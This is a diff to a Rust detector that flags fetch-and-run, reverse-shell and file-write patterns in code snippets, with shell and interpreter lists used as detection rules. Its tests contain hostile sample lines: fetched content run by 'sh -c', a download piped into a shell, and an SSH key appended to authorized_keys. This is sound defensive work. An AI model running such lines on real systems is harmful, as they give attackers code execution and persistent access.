@@ -1450,22 +1450,34 @@ fn scan(
             Run::Argv(a) => a.first().map(String::as_str).unwrap_or(""),
             Run::Shell(s) => s.split_whitespace().next().unwrap_or(""),
         };
-        let base = first.rsplit(['/', '\\']).next().unwrap_or(first);
-        matches!(
-            base,
-            "sh" | "bash"
-                | "zsh"
-                | "dash"
-                | "ksh"
-                | "ash"
-                | "cmd.exe"
-                | "cmd"
-                | "powershell"
-                | "pwsh"
-        )
+        is_shell_program(first.rsplit(['/', '\\']).next().unwrap_or(first))
     });
+    // `http.get(URL, r => r.pipe(spawn("sh").stdin))`: a bare shell in code that downloads reads
+    // the download.
+    let bare_shell = r.runs.iter().any(|(run, _)| match run {
+        Run::Argv(a) => a.len() == 1 && is_shell_program(a[0].rsplit('/').next().unwrap_or("")),
+        Run::Shell(s) => is_shell_program(s.trim().rsplit('/').next().unwrap_or("")),
+    });
+    r.fetch_exec |= fetch && bare_shell && toks.iter().any(|t| matches!(t, Tok::Ident(n) if n.ends_with("pipe") || n.ends_with("stdin") || n.ends_with("stdin.write")));
     r.reverse_shell = socket && (runs_shell || dynamic_run || interpolated_cmd);
     r
+}
+
+/// Shells and command interpreters a snippet can start.
+fn is_shell_program(base: &str) -> bool {
+    matches!(
+        base,
+        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "cmd.exe" | "cmd" | "powershell" | "pwsh"
+    )
+}
+
+/// Programs that run code given on their command line (shells and interpreters).
+fn runs_code_argument(program: &str) -> bool {
+    is_shell_program(program)
+        || matches!(
+            program,
+            "python" | "python3" | "perl" | "ruby" | "node" | "php" | "lua" | "tclsh" | "osascript"
+        )
 }
 
 /// Effects after a change of directory happen in `dir`: relative delete and write targets are
@@ -1597,6 +1609,23 @@ fn writes_and_shell_pipes(
                         })
                     })
                 };
+                // `p.open("a")` with `p` a known path (pathlib): the mode comes first.
+                if let Some(path) = name
+                    .strip_suffix(".open")
+                    .and_then(|recv| paths.get(recv))
+                    .filter(|_| lang == Lang::Python)
+                {
+                    let mode = parts
+                        .first()
+                        .and_then(|p| literal(p, vars))
+                        .unwrap_or_else(|| "r".into());
+                    if mode.contains(['w', 'a', '+']) {
+                        let text =
+                            first_str_after(after).or_else(|| later_write_text(toks, after, vars));
+                        r.writes.push((path.clone(), text, mode.contains('a')));
+                    }
+                    continue;
+                }
                 let mode = parts
                     .get(1)
                     .and_then(|p| literal(p, vars))
@@ -1999,11 +2028,13 @@ fn run_of(
                 .iter()
                 .position(|t| matches!(t, Tok::Punct(']')))
                 .map_or(list.len(), |p| p + 1);
-            if let Some(args) = literal_list(&list[..end], vars) {
-                let mut argv = vec![head];
-                argv.extend(args);
-                return Some(Run::Argv(argv));
-            }
+            let Some(args) = literal_list(&list[..end], vars) else {
+                // Arguments computed at run time (`args: ["-c", await body.text()]`).
+                return None;
+            };
+            let mut argv = vec![head];
+            argv.extend(args);
+            return Some(Run::Argv(argv));
         }
     }
     // Perl `open(FH, "cmd |")`, `open(my $fh, "-|", "cmd")`; Ruby `open("|cmd")`.
@@ -2045,6 +2076,15 @@ fn run_of(
         let skip = usize::from(lang == Lang::Python && (is_os_exec(name) || is_os_spawn(name)));
         argv.extend(rest.into_iter().flatten().skip(skip));
         return Some(Run::Argv(argv));
+    }
+    // `exec "sh", "-c", $fetched`, `spawn("bash", ["-c", body])`: a shell or an interpreter
+    // given arguments computed at run time runs code computed at run time.
+    let program = head.rsplit('/').next().unwrap_or(&head);
+    if parts.len() > 1
+        && (rest.iter().any(Option::is_none) || parts[1].first() == Some(&Tok::Punct('[')))
+        && runs_code_argument(program)
+    {
+        return None;
     }
     Some(Run::Shell(head))
 }
@@ -2355,6 +2395,22 @@ mod tests {
             ["rm -rf dist"]
         );
         assert!(shells(&py("import sh; print(sh.ls('-la'))")) == ["ls -la"]);
+        // A shell given computed arguments runs computed code; a download piped into a bare
+        // shell is fetch-and-run.
+        let r = analyze(
+            Lang::Perl,
+            "use HTTP::Tiny; exec 'sh', '-c', HTTP::Tiny->new->get('http://x.example/s')->{content}",
+        );
+        assert!(r.fetch_exec);
+        let r = js("require('http').get('http://x.example/m', r => r.pipe(require('child_process').spawn('sh').stdin))");
+        assert!(r.fetch_exec);
+        assert!(!js("require('child_process').spawn('git', ['log', branch])").fetch_exec);
+        // Path pieces joined, and pathlib's receiver `open`.
+        let r = py("import pathlib; p = pathlib.Path.home() / '.ssh' / 'authorized_keys'; p.open('a').write('ssh-ed25519 AAAA x')");
+        assert_eq!(
+            r.writes.first().map(|w| w.0.as_str()),
+            Some("~/.ssh/authorized_keys")
+        );
         assert!(py("for x in ['a', 'b']: print(x)").runs.is_empty());
     }
 
